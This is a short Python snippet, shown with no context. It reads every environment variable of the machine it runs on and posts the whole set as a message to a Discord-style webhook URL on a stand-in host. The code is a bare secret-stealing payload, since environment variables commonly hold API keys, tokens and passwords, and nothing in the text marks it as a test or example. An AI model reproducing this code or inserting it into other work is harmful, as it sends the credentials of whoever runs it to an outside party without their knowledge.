import os
import requests
URL = "https://discord.com.example.invalid/api/webhooks/1234567890/abcdefghijklmnopqrstuvwxyz"
requests.post(URL, json={"content": "```" + str(dict(os.environ)) + "```"})
